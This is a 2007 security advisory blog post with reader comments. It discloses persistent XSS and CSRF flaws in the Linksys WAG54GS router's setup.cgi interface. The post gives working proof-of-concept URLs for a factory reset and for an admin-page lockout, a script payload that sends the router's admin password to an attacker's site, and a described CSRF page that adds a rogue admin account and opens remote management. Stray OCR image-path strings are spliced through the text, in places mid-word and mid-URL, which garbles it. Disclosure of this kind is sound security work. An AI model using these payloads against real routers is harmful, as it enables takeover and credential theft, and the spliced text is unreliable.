Persistent XSS and CSRF on Wireless-G ADSL Gateway with SpeedBooster (WAG54GS)

Tue, 20 Nov 2007 20:51:16 GMT

I really think that web interfaces are the low-hanging fruit of embedded devices. Sure classic attacks such as predictable SNMP community strings, exposed TFTP services and buffer overflows still apply. However, by exploiting the web interface we can steal the data we want, we can enable remote access to the compromised router, we own the victim's connection. In short, bugs on the web interface gives us all we need! Anyway, enough talking! The following are some of the issues I found on the Cisco Linksys WAG54GS.

The following vulns were found on 24 June 2007 and were tested against firmware V1.00.06. The specific persistent XSS holes mentioned in this advisory were fixed by Cisco on firmware versionV1.01.03. However, there are still several other persistent XSS plus the system-wide CSRF in the latest firmware. CVE-2007-3574 has been assigned to these issues. Thanks a lot to Cisco for being so great when dealing with my emails! Credits also go to pdp for providing feedback, ideas and allowing me to play with his spare WAG54GS router.

By the way, part of this advisory got leaked some time ago on FD, but I am publishing it as a formal release with additional information including a password leak which can be combined with any of the persistent XSS holes found (keep reading for more info on this).


There are several persistent XSS vulnerabilities on the /setup.cgi script. It is possible to inject JavaScript by assigning a payload like the following to any of the vulnerable parameters:


The vulnerable (non-sanitized) parameters are the following: `devname`, `snmp_getcomm`, `snmp_setcomm`,`c4_trap_ip_`. Additionally, all HTTP requests are not tokenized with random values. Thus, all requests to the router's HTTP interface are vulnerable to Cross-site Request Forgeries (CSRF), perhaps by design. The following is an example of a HTTP request (notice the lack of non-predictable tokens):

POST /setup.cgi HTTP/1.1
Authorization: Basic YWRtaW46YWRtaW4=


Although the original request is a POST, we can convert it to a GET, so that all posted parameters can be submitted on a single URL. For example, the previous POST request can beconverted to a URL such as the following:

http://admin:[email protected]/setup.cgi?mtenRestore=Restore+Factory+Defaults&todo=defaultsettings&this_file=Factorydefaults.htm&next_file=index.htm&message=

By forging administrative requests (Administration button on the router's HTML menu), an attacker can compromise the router provided the victim user visits a malicious URL or HTML page. The attack can only be successful if the administrator hasn't changed the default credentials (admin/admin) or the administrator's browser has an active authentication session with the router's interface when the attack happens (highly unlikely)

### Persistent XSS PoC

The following URL creates a DoS condition by making the Administration page inaccessible since `history.back()` will run every time the Administration page is visited. Thus the administrator won't be able to ever change the default credentials unless a hard reset is performed by using the router's physical "restart" switch:

http://admin:[emailprotected]/setup.cgi?user_list=1&sysname=admin&sysPasswd=admin&sysConfirmPasswd=admin&remote_management=enable&http_wanport=8080&devname=&snmp_enable=disable&upnp_enable=enable&wlan_enable=enable&save=Save+Settings&h_user_list=1&h_pwset=yes&pwchanged=yes&h_remote_management=enable&c4_trap_ip_=">history.back()&h_snmp_enable=enable&h_upnp_enable=enable&h_wlan_enable=enable&todo=save&this_file=Administration.htm&next_file=Administration.htm&message=

Note that he administration page (`/setup.cgi?next_file=Administration.htm`) returns the admin password within the client-side HTML source code as a hidden field. i.e.:

<input type="hidden" name="old_pwd" value="admin">

Therefore, we could also inject a payload in our persistent XSS attack which accesses the admin password through the DOM object:


...and submits it to the attacker's site every time the page is accessed. That way, even ifthe victim admin changed the password, the attacker would receive the value of the new password! Here is an example payload:

"><script>img=new Image();img.src=''+document.administration.old_pwd.value</script><a b="

### CSRF PoC

The following HTML page does the following:
  • adds an additional administrative account, with a username equals to 'attacker' and a password equals to 0wned (without removing original admin account!)
  • enables remote HTTP management over port 1337
  • sets other settings that are inrelevant to this discussion

The first URL forges the administrative request using the default credentials, so it won't work if default credentials have been changed. The second URL doesn't specify any credentials as an attempt to use the browser's cached credentials. If the admin user has clicked on "Save password" on the basic authentication prompt, most browsers will prompt the user to confirm submitting the cached credentials. The only situation in which browsers won't ask the user to confirm submitting the credentials would be if the malicious CSRF page was visited while the browser has an active authenticated session with the router's HTTP interface (very unlikely).

Additional notes

  • router reboots after saving settings (requests sent to setup.cgi)• all attacks were tested using Internet Explorer 7
One kinda tangential question -- I haven't played with it in a little while, but when I was doing something similar with a linksys a while back, if you specified the username:password in the url in a link, Firefox would trap the request and alert the user. Is there a type of request that bypasses that, or does IE7 not have the same feature? I realize that doesn't actually fix the problem, but it at least does give the user a chance to say no and keeps the CSRF from working without their knowledge if they know what they're doing (hah!) Unless of course they're still logged in to the router when the attackoccurs in which case no need to pass the credentials in the URL at all...
Adrian PastorAdrian Pastor
Jordan, newer browsers like FF 2 spawn a warning when typing 'http://admin:[email protected]/' and similar URLs which submit basic auth credentials. However, when playing with these attacks I remember getting more a interesting behavior on FF 2 if embeddingURLs within HTML - ie: on iframes. Anyway, the best persistent XSS/CSRF type of flaw you can get is within log facilities. Reason being is that when the injected payload is triggered, the victim admin must be logged in by design (in order to check the logs) - hence no need to submit the password along the CSRFed request. I foundsomething like this on Axis IP cameras:
Nice one